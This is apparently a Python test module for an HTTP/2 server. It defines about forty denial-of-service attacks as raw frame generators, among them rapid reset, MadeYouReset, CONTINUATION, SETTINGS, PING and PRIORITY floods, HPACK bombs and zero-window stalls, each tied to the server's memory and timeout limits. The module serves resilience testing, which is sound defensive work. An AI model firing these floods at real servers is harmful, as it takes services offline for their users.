"""The attacks of floods.py: what each sends on a connection of its own."""

import h2wire
from h2wire import data, literals, request
from hyperframe.frame import (
    ContinuationFrame,
    DataFrame,
    GoAwayFrame,
    HeadersFrame,
    PingFrame,
    PriorityFrame,
    RstStreamFrame,
    SettingsFrame,
    WindowUpdateFrame,
)
from wire import PATH

MOST_MEMORY_MIB = 48
BUDGET_MIB = 64  # limits.memory, for answers that are held
SLOW, LARGE = f"{PATH}?slow", f"{PATH}?large"
ATTACKS = []


def attack(name, why="", settings=None, read=False, wait=4.0, receive_buffer=None, connections=1, memory=MOST_MEMORY_MIB,
        silent=False):
    """The function yields what is sent, given a Connection. `wait`: seconds until it must be closed; `silent`: what comes
    is read only after them."""

    def decorate(function):
        ATTACKS.append((name, function, why, settings, read, wait, receive_buffer, connections, memory, silent))
        return function

    return decorate


def many(frames, count=200):
    """Frames as one text that is sent again and again."""
    text = b"".join(frame.serialize() for frame in frames)
    for _ in range(count):
        yield text


def reset(stream, code=8):
    return RstStreamFrame(stream, error_code=code).serialize()


def heads(first=1, count=10_000, path=PATH, end=True, behind=lambda stream: b"", method="GET"):
    for stream in range(first, first + 2 * count, 2):
        frame = HeadersFrame(stream, literals(request(path, method)), flags=["END_HEADERS", *(["END_STREAM"] if end else [])])
        yield frame.serialize() + behind(stream)


@attack("rapid reset (CVE-2023-44487)")
def _(c):
    yield from heads(behind=reset)


@attack("rapid reset of requests that are at work")
def _(c):
    yield from heads(path=SLOW, behind=reset)


@attack("rapid reset with bodies")
def _(c):
    yield from heads(end=False, method="POST", behind=lambda s: data(s, b"{}").serialize() + reset(s))


@attack("rapid reset, a hundred at a time")
def _(c):
    for first in range(1, 20_000, 200):
        yield b"".join(heads(first, 100)) + b"".join(reset(s) for s in range(first, first + 200, 2))


CHEAP = (
    "while a request is at work, frames without content are read as they come: they hold nothing, and cost the worker no more "
    "than their sender; without one the connection is closed after head_timeout or keep_alive_timeout"
)


def work():
    """A request that is at work: whatever comes now, no time-out ends it."""
    return b"".join(heads(path=SLOW, count=1))


for sort, frame in {
    "window overflow": lambda s: WindowUpdateFrame(s, window_increment=0x7FFFFFFF).serialize(),
    "window of 0": lambda s: b"\0\0\4\x08\0" + s.to_bytes(4, "big") + b"\0\0\0\0",
    "PRIORITY of 4 bytes": lambda s: b"\0\0\4\2\0" + s.to_bytes(4, "big") + b"\0\0\0\0",
    "depends on itself": lambda s: PriorityFrame(s, depends_on=s, stream_weight=1).serialize(),
    "DATA after the end": lambda s: data(s, b"x").serialize(),
    "HEADERS after the end": lambda s: HeadersFrame(s, literals([("x", "y")]), flags=["END_HEADERS",
    "END_STREAM"]).serialize(),
}.items():  # fmt: skip

    @attack(f"MadeYouReset (CVE-2025-8671): {sort}")
    def _(c, frame=frame):
        yield from heads(path=SLOW, behind=frame, count=3000)


@attack("MadeYouReset: content-length that is wrong")
def _(c):
    for stream in range(1, 6000, 2):
        fields = request(PATH, "POST", ("content-length", "5"))
        yield HeadersFrame(stream, literals(fields), flags=["END_HEADERS"]).serialize() + data(stream,
            b"123456789").serialize()


def continued(c, piece, count=4000):
    yield HeadersFrame(1, literals(request(PATH))).serialize()
    for _ in range(count):
        yield ContinuationFrame(1, piece).serialize()


@attack("CONTINUATION flood (CVE-2024-27316)")
def _(c):
    yield from continued(c, literals([("x", "a" * 4000)]))


@attack("CONTINUATION flood, empty")
def _(c):
    yield from continued(c, b"", 20_000)


@attack("CONTINUATION flood, one byte each")
def _(c):
    yield from continued(c, b"\0", 20_000)


@attack("CONTINUATION flood, of the dynamic table")
def _(c):
    yield HeadersFrame(1, literals(request(PATH)) + b"\x40\x01x" + h2wire.integer(3000, 7) + b"a" * 3000).serialize()
    for _ in range(4000):
        yield ContinuationFrame(1, b"\xbe" * 4000).serialize()


@attack("SETTINGS flood, unread (CVE-2019-9515)")
def _(c):
    yield from many([SettingsFrame(0, settings={4: 65535})] * 500)


@attack("SETTINGS flood of table sizes")
def _(c):
    yield from many([SettingsFrame(0, settings={1: 0}), SettingsFrame(0, settings={1: 4096})] * 250)


@attack("SETTINGS flood that opens and shuts windows")
def _(c):
    yield b"".join(heads(count=50, path=LARGE))
    yield from many([SettingsFrame(0, settings={4: 0}), SettingsFrame(0, settings={4: 65535})] * 250)


@attack("PING flood, unread (CVE-2019-9512)", why=CHEAP)
def _(c):
    yield work()
    yield from many([PingFrame(0, b"12345678")] * 500)


@attack("SETTINGS flood, read", read=True)
def _(c):
    yield from many([SettingsFrame(0, settings={4: 65535})] * 500)


@attack("PING flood, read", why=CHEAP, read=True)
def _(c):
    yield work()
    yield from many([PingFrame(0, b"12345678")] * 500)


@attack("empty DATA flood (CVE-2019-9518)", wait=7)
def _(c):
    yield from heads(count=1, end=False, method="POST")
    yield from many([DataFrame(1, b"")] * 500)


@attack("DATA that is padding only", wait=7)
def _(c):
    yield from heads(count=1, end=False, method="POST")
    yield from many([DataFrame(1, b"", pad_length=250, flags=["PADDED"])] * 100)


@attack("WINDOW_UPDATE flood", why=CHEAP)
def _(c):
    yield work()
    yield from many([WindowUpdateFrame(0, window_increment=1)] * 500)


@attack("WINDOW_UPDATE flood on a stream", wait=7)
def _(c):
    yield from heads(count=1, end=False, method="POST")
    yield from many([WindowUpdateFrame(1, window_increment=1)] * 500)


@attack("PRIORITY flood (CVE-2019-9513)", why=CHEAP)
def _(c):
    yield work()
    yield from many([PriorityFrame(2 * i + 1, depends_on=0, stream_weight=3) for i in range(500)])


@attack("flood of unknown frames", why=CHEAP)
def _(c):
    yield work()
    for _ in range(200):
        yield b"\0\0\0\xfb\0\0\0\0\0" * 500


@attack("GOAWAY flood")
def _(c):
    yield from many([GoAwayFrame(0, last_stream_id=0, error_code=0)] * 500)


@attack("RST_STREAM of streams that never were")
def _(c):
    yield b"".join(reset(s) for s in range(1, 1000, 2))


@attack("HPACK bomb")
def _(c):
    yield HeadersFrame(1, literals(request(PATH)) + b"\x40\x01x" + h2wire.integer(3900, 7) + b"a" * 3900,
        flags=["END_HEADERS", "END_STREAM"]).serialize()
    for stream in range(3, 200, 2):
        yield HeadersFrame(stream, literals(request(PATH)) + b"\xbe" * 12_000, flags=["END_HEADERS",
            "END_STREAM"]).serialize()


@attack("HPACK: table sizes for ever")
def _(c):
    yield HeadersFrame(1, b"\x20\x3f\xe1\x1f" * 4000 + literals(request(PATH)), flags=["END_HEADERS",
        "END_STREAM"]).serialize()


@attack("HPACK: integer without an end")
def _(c):
    yield HeadersFrame(1, b"\xff" + b"\x80" * 12_000, flags=["END_HEADERS", "END_STREAM"]).serialize()


@attack("HPACK: cookies in crumbs", why="refused with 431; the connection may go on")
def _(c):
    for stream in range(1, 100, 2):
        yield HeadersFrame(stream, literals(request(PATH)) + b"\x0f\x11\x00" * 4000, flags=["END_HEADERS",
            "END_STREAM"]).serialize()


@attack("1,000 streams at once", why="those beyond the 100 that were allowed are refused", read=True)
def _(c):
    yield b"".join(heads(path=SLOW, count=1000))


@attack("answers that are never read, window 0", settings={4: 0}, wait=8, memory=2 * BUDGET_MIB)
def _(c):
    yield b"".join(heads(path=LARGE, count=100))


@attack("the same on 10 connections", settings={4: 0}, wait=8, connections=10, memory=2 * BUDGET_MIB)
def _(c):
    yield b"".join(heads(path=LARGE, count=50))


@attack("answers byte by byte (CVE-2019-9511)", settings={4: 1},
    why="each byte is progress, though none that costs more than its frame; write_timeout is of a write without any")
def _(c):
    yield b"".join(heads(path=LARGE, count=100))
    for _ in range(20):
        yield b"".join(WindowUpdateFrame(s, window_increment=1).serialize() for s in range(1, 200, 2))


@attack("answers that the socket does not take", settings={4: 0x7FFFFFFF}, receive_buffer=4096, wait=6, silent=True,
    memory=2 * BUDGET_MIB)
def _(c):
    yield WindowUpdateFrame(0, window_increment=0x7FFF0000).serialize()
    yield b"".join(heads(path=LARGE, count=100))


@attack("heads that never end", connections=50)
def _(c):
    yield HeadersFrame(1, literals(request(PATH))).serialize()


@attack("bodies that never come", wait=6,
    why="each request is refused with 408; the connection may go on until keep_alive_timeout")
def _(c):
    yield b"".join(heads(count=100, end=False, method="POST"))


@attack("silence after the preface", connections=50, wait=6)
def _(c):
    yield b""
